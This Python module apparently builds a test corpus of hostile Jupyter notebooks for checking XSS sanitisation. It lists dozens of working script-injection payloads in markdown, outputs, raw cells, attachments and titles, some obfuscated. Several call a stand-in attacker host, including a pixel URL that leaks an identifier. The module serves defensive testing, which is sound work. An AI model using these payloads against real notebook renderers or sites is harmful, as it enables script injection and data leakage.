"""The XSS corpus: hostile markdown, outputs, attachments and titles, as notebooks."""

from __future__ import annotations

import base64
import copy

import nbformat
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_raw_cell,
)

PWN = "window.__pwned=1"


PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5E"
       "rkJggg==")


MARKDOWN_ATTACKS = {
    "script": f"My answer.\n\n<script>{PWN}</script>\n",
    "img_onerror_inline": f'My answer <img src=x onerror="{PWN}"> inline.',
    "img_onerror_block": f'<img src=x onerror="{PWN}">',
    "svg_onload": f'<svg onload="{PWN}"></svg>',
    "iframe_srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "markdown_js_link": f"[click for the answer](javascript:{PWN})",
    "markdown_js_autolink": f"<javascript:{PWN}>",
    "markdown_js_image": f"![plot](javascript:{PWN})",
    "a_js_href": f'<a href="javascript:{PWN}">click</a>',
    "a_js_href_entities": f'<a href="jav&#x09;ascript&colon;{PWN}">click</a>',
    "a_data_html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "markdown_data_html_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript_link": '<a href="vbscript:msgbox(1)">x</a>',
    "details_ontoggle": f'<details open ontoggle="{PWN}"><summary>more</summary>x</details>',
    "style_import": "<style>@import url('https://evil.example/x.css');</style>",
    "style_attr_url": '<span style="background:url(https://evil.example/x)">x</span>',
    "mutation_xss": f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    "comment_breakout": f'<!--><img src=x onerror="{PWN}">-->',
    "object_embed": '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example"><button>ok</button></form>',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    "base_href": '<base href="https://evil.example/">',
    "link_stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "mermaid": f'```mermaid\ngraph TD\nA["<img src=x onerror={PWN}>"]\n```',
    "math_href": r"Answer $\href{javascript:window.__pwned=1}{\text{see}}$.",
    "escaped_dollars_href": r"Answer \$\href{javascript:window.__pwned=1}{see}\$.",
    "markdown_js_link_entity": f"[x](jav&#x61;script&colon;{PWN})",
    "markdown_js_reference_link": f"[answer][r] and ![fig][r]\n\n[r]: javascript:{PWN}",
    "markdown_js_link_angle": f"[x](<JaVaScRiPt:{PWN}>)",
    "html_in_table_cell": f'| a | b |\n|--|--|\n| <img src=x onerror="{PWN}"> | 2 |',
    "html_in_list_and_quote": f'- <img src=x onerror="{PWN}">\n\n> <script>{PWN}</script>',
    "html_block_around_link": f"<div>\n\n[x](javascript:{PWN})\n\n</div>",
    "heading_with_html": f'# Title <b onclick="{PWN}">x</b>',
    "attachment_missing": "![fig](attachment:gone.png)",
    "fence_in_answer": f'````\n```\n````\n<img src=x onerror="{PWN}">',
    "mixed_with_benign": ("**Bold** answer: $x_n \\in \\mathbb{R}^D$ and $a < b$, see `<tag>`.\n\n"
                          f'<img src=x onerror="{PWN}">\n\n- item one\n- item *two*\n'),
}


def _display(data: dict, metadata: dict | None = None, kind: str = "display_data"):
    """An output as a kernel sends it (``update_display_data`` is not in nbformat's schema)."""
    output = {"output_type": kind, "data": data, "metadata": metadata or {}}
    if kind == "execute_result":
        output["execution_count"] = 1
    return nbformat.from_dict(output)


OUTPUT_ATTACKS = {
    "html_script": _display({"text/html": f"<script>{PWN}</script>",
                             "text/plain": "<IPython.core.display.HTML object>"}),
    "html_onerror": _display({"text/html": f'<img src=x onerror="{PWN}">'}),
    "html_onerror_execute_result": _display({"text/html": f'<b onmouseover="{PWN}">x</b>',
                                             "text/plain": "x"}, kind="execute_result"),
    "javascript": _display({"application/javascript": PWN}),
    "markdown_onerror": _display({"text/markdown": f'Result <img src=x onerror="{PWN}">'}),
    "svg_onload": _display({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" '
                                             f'onload="{PWN}"/>'}),
    "widget_view": _display({"application/vnd.jupyter.widget-view+json": {
        "model_id": "x", "version_major": 2, "version_minor": 0}}),
    "mermaid_output": _display({"text/vnd.mermaid": f'graph TD\nA["<img src=x onerror={PWN}>"]'}),
    "latex_href": _display({"text/latex": r"$\href{javascript:window.__pwned=1}{x}$"}),
    "png_metadata_breakout": _display({"image/png": PNG},
                                      {"image/png": {"width": f"1 onload={PWN}"}}),
    # nbconvert writes output.metadata.filenames as the <img src> in place of the data
    "png_filenames_url": _display({"image/png": PNG}, {"filenames": {
        "image/png": "https://attacker.example/pixel.png?who=TA"}}),
}


def markdown_nb(source: str) -> nbformat.NotebookNode:
    return new_notebook(cells=[new_markdown_cell(source)])


def output_nb(output) -> nbformat.NotebookNode:
    return new_notebook(cells=[new_code_cell("display(x)", execution_count=1,
                                             outputs=[copy.deepcopy(output)])])


def attachment_nb() -> nbformat.NotebookNode:
    script = base64.b64encode(f"<script>{PWN}</script>".encode()).decode()
    cell = new_markdown_cell("![answer](attachment:answer.html)")
    cell.attachments = {"answer.html": {"text/html": script}}
    return new_notebook(cells=[cell])


def execution_count_nb() -> nbformat.NotebookNode:
    nb = new_notebook(cells=[new_code_cell("1", outputs=[
        _display({"text/plain": "1"}, kind="execute_result")])])
    nb.cells[0].execution_count = f'<img src=x onerror="{PWN}">'  # not valid nbformat
    nb.cells[0].outputs[0].execution_count = nb.cells[0].execution_count
    return nb


def title_nb() -> nbformat.NotebookNode:
    nb = markdown_nb("Plain answer.")
    nb.metadata.title = f"</title><script>{PWN}</script>"
    nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    return nb


OTHER_ATTACKS = {
    "raw_html": lambda: new_notebook(cells=[new_raw_cell(
        f'<img src=x onerror="{PWN}">', metadata={"raw_mimetype": "text/html"})]),
    "raw_no_mimetype": lambda: new_notebook(cells=[new_raw_cell(f"<script>{PWN}</script>")]),
    "raw_format_html": lambda: new_notebook(cells=[new_raw_cell(
        f"<svg onload={PWN}>", metadata={"format": "text/html"})]),
    "attachment_html": attachment_nb,
    "execution_count": execution_count_nb,
    "notebook_title_and_widgets": title_nb,
}


HOSTILE = {
    **{f"markdown-{k}": (lambda v=v: markdown_nb(v)) for k, v in MARKDOWN_ATTACKS.items()},
    **{f"output-{k}": (lambda v=v: output_nb(v)) for k, v in OUTPUT_ATTACKS.items()},
    **OTHER_ATTACKS,
}
